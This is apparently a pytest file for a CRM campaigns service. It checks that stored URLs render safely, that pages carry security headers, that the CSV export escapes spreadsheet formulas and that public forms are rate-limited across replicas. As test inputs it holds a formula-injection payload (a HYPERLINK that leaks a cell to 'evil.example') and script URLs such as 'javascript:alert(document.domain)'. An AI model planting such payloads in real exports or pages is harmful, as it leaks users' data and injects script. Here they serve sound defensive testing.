"""Pages and exports that cannot carry code, and public forms that cannot be flooded: stored
URLs are links only when http(s), every page carries the security headers, the CSV export
writes no formula, and the public forms' limits hold across replicas."""

from __future__ import annotations

import contextlib
import csv
import io
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

from crm_campaigns.app import CampaignsSettings, create
from crm_campaigns.handlers.participants import signer
from crm_campaigns.links import LinkPurpose
from crm_campaigns.projections.people import CATALOG
from crm_campaigns.repository import EVENTS
from crm_campaigns.repository.needs import Needs, need_docs
from crm_kit.csv_export import FORMULA_STARTS
from crm_kit.testing import JwtKeys, StackEndpoints, http_client, running, service_env

from .conftest import Campaigns
from .test_invitations import seed_people
from .test_plan_schedule import schedule


@contextlib.asynccontextmanager
async def campaigns_with(
    stack: StackEndpoints, keys: JwtKeys, **settings: Any
) -> AsyncIterator[tuple[Campaigns, Any]]:
    """The campaigns app with some settings of its own, and the settings (to start a second
    replica with the same store)."""
    made = CampaignsSettings(**service_env(stack, keys, "campaigns", **settings))
    app = create(made)
    async with running(app), http_client(app, conformance=True) as http:
        yield Campaigns(app, http, keys), made


HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def assert_secured_page(response: Any) -> None:
    assert response.headers["content-type"].startswith("text/html")
    policy = response.headers["content-security-policy"]
    for directive in ("default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"):
        assert directive in policy
    assert "form-action 'self'" in policy
    assert "script-src" not in policy
    assert "unsafe-inline" not in policy
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["referrer-policy"] == "no-referrer"
    assert response.headers["x-content-type-options"] == "nosniff"


async def invitation_link(c: Campaigns, **event: Any) -> tuple[str, str]:
    """An event with one participant, and the participant's answer link."""
    tag = f"safe{uuid.uuid4().hex[:8]}"
    await seed_people(c, 1, tag)
    created = await schedule(c, **event)
    added = await c.http.post(
        f"/events/{created['id']}/participants",
        json={"people": [{"person_id": f"{tag}-p0"}]},
        headers=c.write(),
    )
    assert added.status_code == 201, added.text
    token = signer(c.runtime).sign(
        LinkPurpose.ANSWER,
        event_id=created["id"],
        participant_id=added.json()["items"][0]["id"],
        now=datetime.now(UTC),
        ttl=timedelta(days=1),
    )
    return created["id"], f"/i/{token}"


async def test_a_script_address_stored_before_validation_is_shown_as_text_not_a_link(
    campaigns: Campaigns,
) -> None:
    c = campaigns
    eid, link = await invitation_link(c)
    for url in ("javascript:alert(document.domain)", " JavaScript:alert(1)", "data:text/html,x"):
        await c.runtime.db[EVENTS].update_one({"_id": eid}, {"$set": {"place.online_url": url}})
        page = await c.http.get(link)
        assert page.status_code == 200
        assert "<a " not in page.text
        assert url.strip().split(":")[0] in page.text  # shown, escaped, inert

    await c.runtime.db[EVENTS].update_one(
        {"_id": eid}, {"$set": {"place.online_url": 'https://meet.example/r?a=1&b="x"'}}
    )
    page = await c.http.get(link)
    assert '<a href="https://meet.example/r?a=1&amp;b=&#34;x&#34;"' in page.text


async def test_every_public_page_and_the_report_carry_the_security_headers(
    campaigns: Campaigns,
) -> None:
    c = campaigns
    eid, link = await invitation_link(c)
    defined = await c.http.put(
        f"/events/{eid}/questionnaire",
        json={"title": "Opinion", "questions": [{"question_id": "rating", "text": "How was it?",
              "kind": "scale"}]},
        headers=c.write(0),
    )  # fmt: skip
    questionnaire = defined.json()["anonymous_link"]
    pages = [
        await c.http.get(link),
        await c.http.post(link, data={"answer": "maybe"}),
        await c.http.get(questionnaire),
        await c.http.post(questionnaire, data={"q_rating": "4"}),
        await c.http.get("/i/not-a-token"),
        await c.http.get("/q/forged.token"),
        await c.http.get("/reports/market-needs", params={"format": "html"}, headers=c.read()),
    ]
    assert [p.status_code for p in pages] == [200, 422, 200, 200, 404, 404, 200]
    for page in pages:
        assert_secured_page(page)
        assert "style=" not in page.text  # an inline style attribute the policy would block
    csv_export = await c.http.get(
        "/reports/market-needs", params={"format": "csv"}, headers=c.read()
    )
    assert csv_export.headers["x-content-type-options"] == "nosniff"


async def test_the_market_needs_csv_writes_no_cell_a_spreadsheet_would_evaluate(
    campaigns: Campaigns,
) -> None:
    c = campaigns
    db = c.runtime.db
    codes = ["=1+1", "@SUM(A1:A9)", "PUMP-1"]
    await db[CATALOG].insert_many(
        [{"_id": "PUMP-1", "name": HOSTILE}, {"_id": "=1+1", "name": "-2+3"}]
    )
    fields = ["+7 (495) 000", "\tTAB", "\r=CR"]
    for i, (code, field) in enumerate(zip(codes, fields, strict=True)):
        await Needs(c.runtime).insert(
            need_docs(source="questionnaire", source_id=f"r{i}", item_codes=[code],
                      event_id="e1", programme_id=None, client_id=f"c{i}", person_id=None,
                      field_of_activity=field, at=datetime.now(UTC))
        )  # fmt: skip
    export = await c.http.get("/reports/market-needs", params={"format": "csv"}, headers=c.read())
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    assert len(rows) == 4
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE in cells
    assert {"'=1+1", "'-2+3", "'@SUM(A1:A9)", "'+7 (495) 000", "'\tTAB", "'\r=CR"} <= set(cells)
    html = await c.http.get("/reports/market-needs", params={"format": "html"}, headers=c.read())
    assert "=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1" in html.text


async def test_a_link_posting_too_often_is_told_to_wait_on_every_replica(
    stack: StackEndpoints, jwt_keys: JwtKeys
) -> None:
    async with campaigns_with(stack, jwt_keys, public_form_posts_per_link=3) as (c, settings):
        _, link = await invitation_link(c)
        second = create(settings)  # another replica, on the same store
        async with (
            running(second, drop_database=False, forget_group=False),
            http_client(second) as other,
        ):
            answers = [
                await (c.http if i % 2 else other).post(link, data={"answer": "maybe"})
                for i in range(4)
            ]
        # Another link from the same address is not held back by this one.
        _, fresh = await invitation_link(c)
        assert (await c.http.post(fresh, data={"answer": "maybe"})).status_code == 422
    assert [a.status_code for a in answers] == [422, 422, 422, 429]
    refused = answers[-1]
    assert_secured_page(refused)
    # Refused posts count too: the wait may reach into the window after the next one.
    assert 1 <= int(refused.headers["retry-after"]) <= 2 * settings.public_form_window_s
    assert "Please wait a moment" in refused.text


async def test_one_address_guessing_links_is_told_to_wait(
    stack: StackEndpoints, jwt_keys: JwtKeys
) -> None:
    async with campaigns_with(stack, jwt_keys, public_form_posts_per_address=5) as (c, _):
        statuses = [
            (await c.http.post(f"/{page}/guess-{i}", data={"answer": "accepted"})).status_code
            for i, page in enumerate(["i", "q"] * 4)
        ]
    assert statuses == [404] * 5 + [429] * 3


async def test_the_anonymous_link_takes_a_bounded_number_of_answers(campaigns: Campaigns) -> None:
    c = campaigns
    assert c.runtime.settings.anonymous_responses_per_seat == 2
    event = await schedule(c, capacity=1)
    eid = event["id"]
    defined = await c.http.put(
        f"/events/{eid}/questionnaire",
        json={"title": "Opinion", "questions": [{"question_id": "rating", "text": "How was it?",
              "kind": "scale"}]},
        headers=c.write(0),
    )  # fmt: skip
    link = defined.json()["anonymous_link"]
    sent = [(await c.http.post(link, data={"q_rating": "5"})) for _ in range(3)]
    assert [s.status_code for s in sent] == [200, 200, 409]
    assert "received all the answers it can take" in sent[-1].text
    figures = await c.http.get(f"/events/{eid}/effectiveness", headers=c.read())
    assert figures.json()["questionnaire_responses"] == 2
    # Paper keyed in by the organisers is not bounded by the public link.
    paper = await c.http.post(
        f"/events/{eid}/questionnaire/responses",
        json={"answers": [{"question_id": "rating", "scale": 3}]},
        headers=c.write(),
    )
    assert paper.status_code == 201, paper.text
